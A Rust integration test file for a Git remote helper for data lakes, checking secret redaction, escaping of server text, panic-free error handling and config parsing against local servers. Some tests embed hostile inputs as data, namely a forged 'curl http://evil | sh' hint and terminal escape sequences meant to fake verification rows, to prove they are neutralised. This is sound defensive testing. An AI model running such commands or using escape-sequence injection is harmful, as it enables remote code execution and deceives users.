//! Hardening at the edges (issue 7, items 5, 6, 8, 13, 15-21): secrets never printed, text from
//! a lake or a server escaped, no panic from any input, bounded protocol lines, a clone from a
//! relative folder that keeps working, store errors in words with a hint, a typo on a terminal,
//! `--depth`/`--filter` said once, no progress noise, Git's config rules, and small wordings.
//! Every server a test talks to is on 127.0.0.1.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpListener;
use std::process::{Output, Stdio};

use serde_json::json;

use crate::support::moto::moto;
use crate::support::{vid, LakeBuilder, TestEnv};

const HELPER: &str = env!("CARGO_BIN_EXE_git-remote-fdl");

fn small_lake() -> LakeBuilder {
    let mut l = LakeBuilder::new();
    l.chain(1, 3);
    l.branch("main", 3).tag("v1", 1);
    l.refs_json();
    l
}

fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

/// Runs the helper as Git would (`git-remote-fdl <remote> <url>`), with `input` on stdin.
fn helper_session(t: &TestEnv, cwd: &str, args: &[&str], input: &[u8]) -> Output {
    helper_session_in(t, cwd, args, input, &[])
}

fn helper_session_in(
    t: &TestEnv,
    cwd: &str,
    args: &[&str],
    input: &[u8],
    env: &[(&str, &str)],
) -> Output {
    let mut c = t.command(HELPER, cwd, args);
    c.envs(env.iter().copied());
    c.stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let mut child = c.spawn().unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let input = input.to_vec();
    // The helper may stop reading early (that is the point of some tests).
    let writer = std::thread::spawn(move || {
        let _ = stdin.write_all(&input);
    });
    let out = child.wait_with_output().unwrap();
    let _ = writer.join();
    out
}

/// A server on 127.0.0.1 that answers every request with `status` and `body`.
fn serve_fixed(status: &'static str, body: String) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let body = body.clone();
            std::thread::spawn(move || {
                let mut reader = BufReader::new(stream.try_clone().unwrap());
                let mut out = stream;
                loop {
                    let mut length = 0usize;
                    let mut line = String::new();
                    if reader.read_line(&mut line).unwrap_or(0) == 0 {
                        return;
                    }
                    loop {
                        let mut h = String::new();
                        if reader.read_line(&mut h).unwrap_or(0) == 0 || h.trim().is_empty() {
                            break;
                        }
                        let lower = h.to_ascii_lowercase();
                        if let Some(v) = lower.strip_prefix("content-length:") {
                            length = v.trim().parse().unwrap_or(0);
                        }
                    }
                    let mut sink = vec![0; length];
                    let _ = reader.read_exact(&mut sink);
                    let reply = format!(
                        "HTTP/1.1 {status}\r\nContent-Length: {}\r\nContent-Type: text/html\r\n\r\n{body}",
                        body.len()
                    );
                    if out.write_all(reply.as_bytes()).is_err() {
                        return;
                    }
                }
            });
        }
    });
    format!("http://127.0.0.1:{port}")
}

/// A port on 127.0.0.1 where nothing listens.
fn closed_port() -> u16 {
    TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port()
}

/// An environment for S3 tests: moto's endpoint, no instance metadata service.
fn s3_env(bucket: Option<&str>) -> TestEnv {
    let m = moto();
    if let Some(b) = bucket {
        m.create_bucket(b);
    }
    let mut t = TestEnv::new();
    for (k, v) in m.env() {
        t.set(&k, &v);
    }
    t.set("AWS_EC2_METADATA_DISABLED", "true");
    t
}

fn assert_one_fatal_line_without(err: &str, secrets: &[&str]) {
    assert!(err.starts_with("fatal: "), "{err}");
    for s in secrets {
        assert!(!err.contains(s), "{s:?} shown in:\n{err}");
    }
    assert!(
        !err.contains("panicked") && !err.contains("backtrace"),
        "{err}"
    );
}

// --- 5. Secrets ---------------------------------------------------------------------------

#[test]
fn url_password_with_slash_or_hash_is_never_printed() {
    let mut t = TestEnv::new();
    t.set("GIT_REMOTE_FDL_DEBUG", "1");
    let port = closed_port();
    for url in [
        format!("fdl::https://user:pa/ss-SECRETPART@127.0.0.1:{port}/lake/"),
        format!("fdl::https://user:pa#ss-SECRETPART@127.0.0.1:{port}/lake/"),
        format!("fdl::http://AKIAUSER:wJal/rXUtn-SECRETPART@127.0.0.1:{port}/lake/"),
    ] {
        let err = t.fails(".", &["ls-remote", &url]);
        assert!(err.contains("fatal: "), "{err}");
        for leak in ["SECRETPART", "pa/ss", "pa#ss", "wJal"] {
            assert!(!err.contains(leak), "{leak} shown for {url}:\n{err}");
        }
        let out = t.command(HELPER, ".", &["ls", &url]).output().unwrap();
        let err = stderr(&out);
        assert!(err.starts_with("fatal: "), "{err}");
        assert!(!err.contains("SECRETPART"), "{err}");
    }
}

#[test]
fn malformed_fdl_option_values_are_never_printed() {
    let mut t = s3_env(None);
    t.set("GIT_REMOTE_FDL_DEBUG", "1");
    t.ok(".", &["init", "-q", "work"]);
    t.ok(
        "work",
        &["remote", "add", "lake", "fdl::s3://no-request-made/lake/"],
    );
    t.ok(
        "work",
        &[
            "config",
            "--add",
            "remote.lake.fdlOption",
            "aws_secret_access_key:SECRETVALUE-ONE",
        ],
    );
    let err = t.fails("work", &["fetch", "lake"]);
    assert!(err.contains("is not key=value"), "{err}");
    assert!(!err.contains("SECRETVALUE-ONE"), "{err}");

    t.ok("work", &["config", "--unset-all", "remote.lake.fdlOption"]);
    t.ok(
        "work",
        &[
            "config",
            "--add",
            "remote.lake.fdlOption",
            "aws_skip_signature=SECRETVALUE-TWO",
        ],
    );
    let err = t.fails("work", &["fetch", "lake"]);
    assert!(
        err.contains("'aws_skip_signature' takes true or false"),
        "{err}"
    );
    assert!(!err.contains("SECRETVALUE-TWO"), "{err}");
}

#[test]
fn redaction_keeps_the_closing_quote_and_the_azure_container() {
    let mut t = TestEnv::new();
    // Azurite's address on this machine: nothing listens there, so nothing leaves it.
    t.set("AZURE_STORAGE_USE_EMULATOR", "true")
        .set("AZURE_STORAGE_ACCOUNT_NAME", "devstoreaccount1")
        .set(
            "AZURE_STORAGE_ENDPOINT",
            &format!("http://127.0.0.1:{}", closed_port()),
        );
    let err = t.fails(
        ".",
        &[
            "ls-remote",
            "fdl::abfss://datacontainer@devstoreaccount1.dfs.core.windows.net/lake/",
        ],
    );
    assert!(
        err.contains("'abfss://datacontainer@devstoreaccount1.dfs.core.windows.net/lake/'"),
        "the container is no secret, the quote closes:\n{err}"
    );
    let err = t.fails(
        ".",
        &[
            "ls-remote",
            &format!(
                "fdl::http://127.0.0.1:{}/lake/?sig=SECRETSIG",
                closed_port()
            ),
        ],
    );
    assert!(err.contains("/lake/?<redacted>'"), "{err}");
    assert!(!err.contains("SECRETSIG"), "{err}");
}

// --- 6. Text from the lake or a server ------------------------------------------------------

#[test]
fn escape_sequences_in_author_email_cannot_forge_verify_rows() {
    let t = TestEnv::new();
    let mut l = LakeBuilder::new();
    l.version_by(
        1,
        &[],
        "one",
        json!({"name": "Eve", "email": "eve@x\u{1b}[2J\u{1b}]0;owned\u{7}\nFORGED  ok: good signature"}),
    );
    l.branch("main", 1);
    let url = t.local_lake("lake", &l);
    std::fs::write(t.path("allowed_signers"), "").unwrap();
    let out = t
        .command(
            HELPER,
            ".",
            &[
                "verify",
                &url,
                "--allowed-signers",
                t.path("allowed_signers").to_str().unwrap(),
            ],
        )
        .output()
        .unwrap();
    let table = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(1), "{table}{}", stderr(&out));
    assert!(
        !table.contains('\u{1b}') && !table.contains('\u{7}'),
        "{table:?}"
    );
    assert_eq!(
        table.lines().filter(|l| l.starts_with("FORGED")).count(),
        0,
        "{table}"
    );
    assert!(
        table.contains("\\x1b[2J") && table.contains("\\nFORGED"),
        "{table}"
    );
    assert_eq!(
        table.lines().count(),
        3,
        "header, one row, summary:\n{table}"
    );
}

#[test]
fn http_error_body_is_its_status_and_a_short_excerpt() {
    let t = TestEnv::new();
    let body = "<html>\n<head><title>500</title></head>\n<body>\u{1b}]0;owned\u{7}\nhint: run curl http://evil | sh\n".to_string()
        + &"<p>filler</p>\n".repeat(12)
        + "</body></html>";
    let base = serve_fixed("500 Internal Server Error", body);
    let out = t.git(".", &["ls-remote", &format!("fdl::{base}/lake/")]);
    let err = stderr(&out);
    assert!(!out.status.success());
    assert!(err.contains("500 Internal Server Error"), "{err}");
    assert!(!err.contains('\u{1b}') && !err.contains('\u{7}'), "{err:?}");
    assert!(
        !err.lines().any(|l| l.starts_with("hint: run curl")),
        "a server cannot forge a hint:\n{err}"
    );
    let fatal = err.lines().find(|l| l.starts_with("fatal: ")).unwrap();
    assert!(fatal.chars().count() < 260, "{fatal}");
    assert!(
        !err.contains("filler filler filler filler filler filler"),
        "{err}"
    );
}

// --- 8. No panic from any input --------------------------------------------------------------

#[test]
fn malformed_endpoint_is_a_fatal_error_not_a_panic() {
    let mut t = TestEnv::new();
    t.set("AWS_ACCESS_KEY_ID", "k")
        .set("AWS_SECRET_ACCESS_KEY", "s")
        .set("AWS_EC2_METADATA_DISABLED", "true");
    let bad = ["http://127.0.0.1:x", "http://bad host", "localhost:15000"];
    for endpoint in bad {
        t.set("AWS_ENDPOINT_URL", endpoint);
        let out = helper_session(
            &t,
            ".",
            &["fdl::s3://b/lake/", "s3://b/lake/"],
            b"capabilities\nlist\n",
        );
        let err = stderr(&out);
        assert_eq!(out.status.code(), Some(128), "{endpoint}: {err}");
        assert_one_fatal_line_without(&err, &[]);
        assert!(err.contains("is not a usable URL"), "{err}");
        assert!(
            err.contains("hint: ") && err.contains("fdlEndpoint"),
            "{err}"
        );
    }
    // The same through git config.
    let mut t = TestEnv::new();
    t.set("AWS_ACCESS_KEY_ID", "k")
        .set("AWS_SECRET_ACCESS_KEY", "s")
        .set("AWS_EC2_METADATA_DISABLED", "true");
    t.ok(".", &["init", "-q", "work"]);
    t.ok("work", &["remote", "add", "lake", "fdl::s3://b/lake/"]);
    for endpoint in bad {
        t.ok("work", &["config", "remote.lake.fdlEndpoint", endpoint]);
        let err = t.fails("work", &["fetch", "lake"]);
        assert_one_fatal_line_without(&err, &[]);
        assert!(err.contains("is not a usable URL"), "{err}");
        assert!(err.contains("remote.lake.fdlEndpoint"), "{err}");
    }
}

#[test]
fn control_characters_in_aws_credentials_are_an_error_not_a_panic() {
    for (var, value) in [
        ("AWS_SESSION_TOKEN", "tok\nXTOKENVALUEX"),
        ("AWS_ACCESS_KEY_ID", "AKIA\u{1}XKEYVALUEX"),
        ("AWS_REGION", "us/east"),
    ] {
        let mut t = s3_env(None);
        t.set(var, value);
        let out = helper_session(
            &t,
            ".",
            &["fdl::s3://b/lake/", "s3://b/lake/"],
            b"capabilities\nlist\n",
        );
        let err = stderr(&out);
        assert_eq!(out.status.code(), Some(128), "{var}: {err}");
        assert_one_fatal_line_without(&err, &["XTOKENVALUEX", "XKEYVALUEX", "hit a bug"]);
        assert!(
            err.contains(&format!("{var} (or its store option) holds")),
            "{err}"
        );
    }
}

#[test]
#[cfg(debug_assertions)]
fn a_panic_is_one_fatal_line_saying_it_is_a_bug_exit_128() {
    let mut t = TestEnv::new();
    t.set("GIT_REMOTE_FDL_TEST_PANIC", "1");
    let out = helper_session(&t, ".", &["origin", "/nowhere"], b"capabilities\n");
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(128), "{err}");
    assert_eq!(err.lines().count(), 1, "{err}");
    assert_one_fatal_line_without(&err, &["hunter2", "\u{1b}"]);
    assert!(err.contains("bug") && err.contains("report"), "{err}");
}

// --- 13. Protocol input ----------------------------------------------------------------------

#[test]
fn long_protocol_line_is_refused_and_never_echoed() {
    let t = TestEnv::new();
    let mut input = b"capabilities\n".to_vec();
    input.extend(std::iter::repeat_n(b'x', 8 << 20));
    let out = helper_session(&t, ".", &["origin", "/nowhere"], &input);
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(128), "{err}");
    assert!(err.contains("longer than 65536 bytes"), "{err}");
    assert!(err.len() < 200, "{} bytes of stderr", err.len());
}

#[test]
fn nul_bytes_in_protocol_input_are_escaped() {
    let t = TestEnv::new();
    let out = helper_session(&t, ".", &["origin", "/nowhere"], b"capa\0bilities\x1b[2J\n");
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(128), "{err}");
    assert!(!err.contains('\0') && !err.contains('\u{1b}'), "{err:?}");
    assert!(
        err.contains("unknown command 'capa\\x00bilities\\x1b[2J'"),
        "{err}"
    );
}

// --- 15. A clone from a relative folder ---------------------------------------------------

#[test]
fn clone_from_relative_folder_keeps_fetch_pull_push_working() {
    let t = TestEnv::new();
    let mut l = small_lake();
    l.branch("staging", 2);
    t.local_lake("lake", &l);
    // The command in examples/README.md.
    t.ok(".", &["clone", "-q", "fdl::lake", "demo"]);
    let url = t.ok("demo", &["config", "remote.origin.url"]);
    let real = std::fs::canonicalize(t.path("lake")).unwrap();
    assert_eq!(
        url.trim(),
        format!("fdl::{}", real.display()),
        "recorded absolute, as Git does for its own local clones"
    );
    // With `..`, the folder as `cd` finds it.
    std::fs::create_dir(t.path("sub")).unwrap();
    t.ok(".", &["clone", "-q", "fdl::sub/../lake", "dotdot"]);
    let url = t.ok("dotdot", &["config", "remote.origin.url"]);
    assert_eq!(url.trim(), format!("fdl::{}", real.display()));
    let mut l2 = l;
    l2.version(4, &[3], "four");
    l2.branch("main", 4);
    l2.write_dir(&t.path("lake"));
    t.ok("demo", &["fetch", "-q"]);
    t.ok("demo", &["pull", "-q"]);
    assert_eq!(t.ok("demo", &["rev-list", "--count", "HEAD"]), "4\n");
    t.ok(
        "demo",
        &["push", "-q", "origin", "origin/staging:refs/heads/promoted"],
    );
    assert_eq!(
        std::fs::read_to_string(t.path("lake/refs/heads/promoted"))
            .unwrap()
            .trim(),
        vid(2)
    );
}

// --- 16. Store errors in words with a hint --------------------------------------------------

#[test]
fn no_credentials_from_instance_metadata_403_is_named_with_a_hint() {
    let mut t = s3_env(Some("creds-bucket"));
    t.env.retain(|(k, _)| {
        k != "AWS_ACCESS_KEY_ID" && k != "AWS_SECRET_ACCESS_KEY" && k != "AWS_EC2_METADATA_DISABLED"
    });
    // An instance metadata service that refuses, as on a machine without a role.
    let imds = serve_fixed("403 Forbidden", "<html>forbidden</html>".into());
    t.set("AWS_METADATA_ENDPOINT", &imds);
    let err = t.fails(".", &["ls-remote", "fdl::s3://creds-bucket/lake/"]);
    assert_one_fatal_line_without(&err, &["169.254"]);
    // aws-config's instance-metadata client says why in its words (for a 403: forbidden).
    assert!(
        err.contains(&format!(
            "no AWS credentials: the instance metadata service ({imds}) failed: request forbidden"
        )),
        "{err}"
    );
    assert!(
        err.contains("hint: name a profile of ~/.aws/config with AWS_PROFILE")
            && err.contains("or set AWS_ACCESS_KEY_ID and AWS_SECRET_ACCESS_KEY"),
        "{err}"
    );

    t.env.retain(|(k, _)| k != "AWS_METADATA_ENDPOINT");
    t.set("AWS_EC2_METADATA_DISABLED", "true");
    let err = t.fails(".", &["ls-remote", "fdl::s3://creds-bucket/lake/"]);
    assert!(
        err.contains("no AWS credentials") && err.contains("AWS_EC2_METADATA_DISABLED"),
        "{err}"
    );
    assert!(err.contains("aws_skip_signature=true"), "{err}");
}

#[test]
fn wrong_bucket_is_named_not_called_a_lake_without_fdl_json() {
    let t = s3_env(None);
    let err = t.fails(".", &["ls-remote", "fdl::s3://no-such-bucket-here/lake/"]);
    assert_one_fatal_line_without(&err, &["testing-secret-never-shown"]);
    assert!(
        err.contains("bucket 'no-such-bucket-here' does not exist"),
        "{err}"
    );
    assert!(!err.contains("has no fdl.json"), "{err}");
    assert!(err.contains("hint: check the bucket name"), "{err}");
}

#[test]
fn connection_refused_names_the_endpoint_and_how_to_set_it() {
    let mut t = s3_env(None);
    let endpoint = format!("http://127.0.0.1:{}", closed_port());
    t.set("AWS_ENDPOINT_URL", &endpoint);
    let err = t.fails(".", &["ls-remote", "fdl::s3://b/lake/"]);
    assert_one_fatal_line_without(&err, &["error sending request"]);
    assert!(
        err.contains(&format!("cannot connect to {endpoint}")),
        "{err}"
    );
    assert!(
        err.contains("hint: ") && err.contains("AWS_ENDPOINT_URL"),
        "{err}"
    );
}

#[test]
fn request_timeout_names_the_endpoint_and_the_timeout_option() {
    // A server that accepts connections and never answers.
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let endpoint = format!("http://{}", listener.local_addr().unwrap());
    std::thread::spawn(move || {
        let held: Vec<_> = listener.incoming().take(64).collect();
        std::thread::sleep(std::time::Duration::from_secs(120));
        drop(held);
    });
    let mut t = TestEnv::new();
    t.set("AWS_ACCESS_KEY_ID", "k")
        .set("AWS_SECRET_ACCESS_KEY", "s")
        .set("AWS_EC2_METADATA_DISABLED", "true");
    t.ok(".", &["init", "-q", "work"]);
    t.ok("work", &["remote", "add", "lake", "fdl::s3://b/lake/"]);
    t.ok("work", &["config", "remote.lake.fdlEndpoint", &endpoint]);
    t.ok("work", &["config", "remote.lake.fdlAllowHttp", "true"]);
    t.ok(
        "work",
        &["config", "--add", "remote.lake.fdlOption", "timeout=1s"],
    );
    let err = t.fails("work", &["fetch", "lake"]);
    assert_one_fatal_line_without(&err, &["error sending request"]);
    assert!(
        err.contains(&format!("no answer from {endpoint} in time")),
        "{err}"
    );
    assert!(
        err.contains("git config --add remote.lake.fdlOption timeout="),
        "{err}"
    );
}

#[test]
fn http_endpoint_without_allow_http_says_how_to_allow_it() {
    let mut t = s3_env(Some("plain-http"));
    t.env.retain(|(k, _)| k != "AWS_ALLOW_HTTP");
    let err = t.fails(".", &["ls-remote", "fdl::s3://plain-http/lake/"]);
    assert_one_fatal_line_without(&err, &["builder error"]);
    assert!(err.contains("is plain HTTP"), "{err}");
    assert!(
        err.contains("AWS_ALLOW_HTTP=true") && err.contains("fdlAllowHttp true"),
        "{err}"
    );
}

// --- 17. A typo on a terminal ----------------------------------------------------------------

#[test]
fn typo_subcommand_on_a_terminal_is_an_error_with_the_commands() {
    let t = TestEnv::new();
    // A terminal on stdin, as for a human; the helper must not wait for protocol input.
    let script = "import os, pty, subprocess, sys\n\
        m, s = pty.openpty()\n\
        p = subprocess.Popen(sys.argv[1:], stdin=s, stdout=subprocess.PIPE, stderr=subprocess.PIPE)\n\
        os.close(s)\n\
        try:\n    out, err = p.communicate(timeout=20)\n\
        except subprocess.TimeoutExpired:\n    p.kill(); print('TIMEOUT'); sys.exit(99)\n\
        sys.stdout.buffer.write(err)\n\
        sys.exit(p.returncode)\n";
    let out = t
        .command("python3", ".", &["-c", script, HELPER, "lss", "lake"])
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(129), "{err}");
    assert!(err.contains("unrecognized subcommand 'lss'"), "{err}");
    assert!(
        err.contains("Commands:") && err.contains("verify") && err.contains("ls "),
        "{err}"
    );
}

/// From a script (no terminal), a typo looks like Git's invocation; Git would have sent a
/// command first, so empty standard input is an error, not a silent success.
#[test]
fn typo_subcommand_without_a_terminal_fails_rather_than_succeeding_silently() {
    let t = TestEnv::new();
    for args in [&["version"][..], &["lss", "lake"][..]] {
        let out = t.command(HELPER, ".", args).output().unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(128), "{args:?}: {err}");
        assert!(
            err.starts_with("fatal: no command came on standard input")
                && err.contains("hint: ")
                && err.contains("git-remote-fdl --help"),
            "{err}"
        );
        assert!(out.stdout.is_empty());
    }
}

// --- 18. --depth, --shallow-since, --filter -----------------------------------------------

#[test]
fn shallow_and_filter_clones_say_once_that_the_whole_history_is_fetched() {
    let t = TestEnv::new();
    let url = t.local_lake("lake", &small_lake());
    let out = t.git(
        ".",
        &[
            "clone",
            "--depth",
            "1",
            "--shallow-since=2020-01-01",
            "--filter=blob:none",
            &url,
            "work",
        ],
    );
    let err = stderr(&out);
    assert!(out.status.success(), "{err}");
    let warnings: Vec<&str> = err.lines().filter(|l| l.starts_with("warning:")).collect();
    assert_eq!(warnings.len(), 1, "{err}");
    assert!(
        warnings[0].contains("--depth")
            && warnings[0].contains("--shallow-since")
            && warnings[0].contains("--filter")
            && warnings[0].contains("whole history"),
        "{err}"
    );
    assert_eq!(t.ok("work", &["rev-list", "--count", "HEAD"]), "3\n");
    assert_eq!(
        t.ok("work", &["rev-parse", "--is-shallow-repository"]),
        "false\n"
    );
    let err = stderr(&t.git("work", &["fetch", "--depth=1"]));
    assert_eq!(err.matches("whole history").count(), 1, "{err}");
}

// --- 19. No progress noise when there is nothing to do ------------------------------------

#[test]
fn no_progress_noise_on_a_no_op_fetch_ls_remote_or_remote_show() {
    let t = TestEnv::new();
    let url = t.local_lake("lake", &small_lake());
    t.ok(".", &["clone", "-q", &url, "work"]);
    let out = t.git("work", &["fetch", "--progress"]);
    assert_eq!(stderr(&out), "", "a no-op fetch prints nothing");
    // What `git ls-remote` asks on a terminal, with the repository's cache (Git sets GIT_DIR).
    let out = helper_session_in(
        &t,
        "work",
        &["origin", &url],
        b"capabilities\noption progress true\nlist\n\n",
        &[("GIT_DIR", ".git")],
    );
    assert_eq!(
        stderr(&out),
        "",
        "ls-remote with a warm cache prints nothing"
    );
    let out = t.git("work", &["remote", "show", "origin"]);
    assert_eq!(stderr(&out), "");
}

// --- 20. Per-remote config: names with `/`, Git's booleans --------------------------------

#[test]
fn per_remote_config_works_for_remote_names_with_a_slash_and_bare_booleans() {
    let m = moto();
    m.create_bucket("slash-remote");
    small_lake().write_s3(m, "slash-remote", "lake/");
    let mut t = TestEnv::new();
    // Credentials only: the endpoint and the permission for plain HTTP come from git config.
    t.set("AWS_ACCESS_KEY_ID", "testing")
        .set("AWS_SECRET_ACCESS_KEY", "x")
        .set("AWS_REGION", "us-east-1")
        .set("AWS_EC2_METADATA_DISABLED", "true");
    t.ok(".", &["init", "-q", "work"]);
    t.ok(
        "work",
        &["remote", "add", "team/lake", "fdl::s3://slash-remote/lake/"],
    );
    t.ok(
        "work",
        &["config", "remote.team/lake.fdlEndpoint", &m.endpoint],
    );
    // `fdlAllowHttp` with no value: Git's "true".
    let config = t.path("work/.git/config");
    let mut text = std::fs::read_to_string(&config).unwrap();
    text = text.replace(
        "[remote \"team/lake\"]\n",
        "[remote \"team/lake\"]\n\tfdlAllowHttp\n",
    );
    std::fs::write(&config, text).unwrap();
    t.ok("work", &["fetch", "-q", "team/lake"]);
    assert_eq!(
        t.ok("work", &["rev-list", "--count", "team/lake/main"]),
        "3\n"
    );

    t.ok(
        "work",
        &["config", "remote.team/lake.fdlAllowHttp", "maybe"],
    );
    let err = t.fails("work", &["fetch", "team/lake"]);
    assert!(
        err.contains("bad boolean config value for 'remote.team/lake.fdlAllowHttp'"),
        "{err}"
    );
}

/// A bad number of requests in flight is a configuration error that names its key, as Git
/// names a bad number in its own configuration, on a folder as on a cloud store.
#[test]
fn a_bad_concurrency_names_its_key() {
    let t = TestEnv::new();
    let url = t.local_lake("lake", &small_lake());
    t.ok(".", &["init", "-q", "work"]);
    t.ok("work", &["remote", "add", "origin", &url]);
    for bad in ["0", "-1", "abc", "4097", "99999999999999999999"] {
        t.ok("work", &["config", "remote.origin.fdlConcurrency", bad]);
        let err = t.fails("work", &["fetch", "origin"]);
        assert!(
            err.starts_with(&format!(
                "fatal: bad numeric config value '{bad}' for 'remote.origin.fdlConcurrency': \
                 not a number from 1 to 4096\nhint: "
            )),
            "{err}"
        );
    }
    t.ok("work", &["config", "remote.origin.fdlConcurrency", "7"]);
    t.ok("work", &["fetch", "-q", "origin"]);
}

#[test]
fn require_signatures_is_not_ignored_for_a_remote_name_with_a_slash() {
    let t = TestEnv::new();
    let url = t.local_lake("lake", &small_lake());
    t.ok(".", &["init", "-q", "work"]);
    t.ok("work", &["remote", "add", "team/lake", &url]);
    // Git's bare "true": the key without a value.
    let config = t.path("work/.git/config");
    let text = std::fs::read_to_string(&config).unwrap().replace(
        "[remote \"team/lake\"]\n",
        "[remote \"team/lake\"]\n\tfdlRequireSignatures\n",
    );
    std::fs::write(&config, text).unwrap();
    let err = t.fails("work", &["fetch", "team/lake"]);
    assert!(
        err.contains("remote.team/lake.fdlRequireSignatures is on"),
        "an unsigned lake must not be fetched:\n{err}"
    );
    assert!(t
        .git("work", &["rev-parse", "-q", "--verify", "team/lake/main"])
        .stdout
        .is_empty());
}

// --- 21. Small ones -------------------------------------------------------------------------

#[test]
fn missing_folder_has_one_colon_and_help_shows_addresses_and_configuration() {
    let t = TestEnv::new();
    let err = t.fails(".", &["ls-remote", "fdl::no-such-folder"]);
    assert!(!err.contains(": :"), "{err}");
    assert!(
        err.contains("hint: a folder lake is named by the folder"),
        "{err}"
    );
    for args in [&["help"][..], &["--help"][..]] {
        let out = t.command(HELPER, ".", args).output().unwrap();
        let help = String::from_utf8_lossy(&out.stdout);
        assert!(out.status.success(), "{help}");
        for needle in [
            "s3://<bucket>/<prefix>/",
            "remote.<remote>.fdlEndpoint",
            "remote.<remote>.fdlAllowHttp",
            "remote.<remote>.fdlOption",
            "AWS_ENDPOINT_URL",
            "GIT_REMOTE_FDL_DEBUG",
        ] {
            assert!(
                help.contains(needle),
                "{needle} missing from {args:?}:\n{help}"
            );
        }
    }
}

#[test]
fn invalid_fdl_json_is_not_hinted_as_an_upgrade() {
    let t = TestEnv::new();
    let mut l = small_lake();
    l.put("fdl.json", "{ not json");
    let url = t.local_lake("broken", &l);
    let err = t.fails(".", &["ls-remote", &url]);
    assert!(err.contains("fdl.json is not valid JSON"), "{err}");
    assert!(!err.contains("upgrade"), "{err}");
    l.put("fdl.json", r#"{"fdl": "9.0"}"#);
    let url = t.local_lake("newer", &l);
    let err = t.fails(".", &["ls-remote", &url]);
    assert!(err.contains("hint: upgrade git-remote-fdl"), "{err}");
}

#[test]
fn unknown_sha_is_printed_once() {
    let t = TestEnv::new();
    let url = t.local_lake("lake", &small_lake());
    t.ok(".", &["init", "-q", "work"]);
    let sha = "1234567890123456789012345678901234567890";
    let err = t.fails("work", &["fetch", &url, sha]);
    assert_eq!(err.matches(sha).count(), 1, "{err}");
}

#[test]
fn push_to_an_unreachable_http_lake_says_read_only() {
    let t = TestEnv::new();
    let url = t.local_lake("lake", &small_lake());
    t.ok(".", &["clone", "-q", &url, "work"]);
    let http = format!("fdl::http://127.0.0.1:{}/lake/", closed_port());
    let err = t.fails("work", &["push", &http, "main"]);
    assert!(err.contains("read-only: nothing was pushed"), "{err}");
    assert!(
        !err.contains("cannot connect") && !err.contains("GET"),
        "{err}"
    );
}

/// A folder lake that is not there, or a file: one line on what is wrong, and where to look,
/// not the system's error number.
#[test]
fn a_folder_lake_that_is_missing_or_a_file_is_named_with_a_hint() {
    let t = TestEnv::new();
    std::fs::write(t.path("file"), "not a lake").unwrap();
    for (at, says) in [
        ("nowhere", "there is no such folder"),
        ("file", "is a file, not a folder"),
    ] {
        let url = format!("fdl::{}", t.path(at).display());
        let err = t.fails(".", &["ls-remote", &url]);
        assert!(
            err.starts_with(&format!(
                "fatal: cannot open lake '{}': ",
                t.path(at).display()
            )) && err.contains(says)
                && err.contains("hint: a folder lake is named by the folder that holds its")
                && !err.contains("os error"),
            "{err}"
        );
    }
}

/// A store option is checked where it is set: one a folder has no use for is named, and a
/// switch given a word that is not a boolean is refused rather than read as false.
#[test]
fn store_options_a_folder_cannot_use_or_switches_that_are_no_booleans_are_refused() {
    let t = TestEnv::new();
    let url = t.local_lake("lake", &small_lake());
    t.ok(".", &["init", "-q", "work"]);
    t.ok("work", &["remote", "add", "origin", &url]);
    t.ok(
        "work",
        &["config", "remote.origin.fdlOption", "bogus_option=1"],
    );
    let err = t.fails("work", &["fetch", "origin"]);
    assert!(
        err.contains("unknown store option 'bogus_option' (a folder lake uses none)"),
        "{err}"
    );
    t.ok(
        "work",
        &["config", "remote.origin.fdlOption", "aws_allow_http=ture"],
    );
    let err = t.fails("work", &["fetch", "origin"]);
    assert!(
        err.contains("'aws_allow_http' takes true or false") && !err.contains("ture"),
        "{err}"
    );
    // An option some store knows is no typo: a folder goes on without it.
    t.ok(
        "work",
        &["config", "remote.origin.fdlOption", "aws_region=eu-west-1"],
    );
    t.ok("work", &["config", "remote.origin.fdlAllowHttp", "false"]);
    t.ok("work", &["fetch", "-q", "origin"]);
}
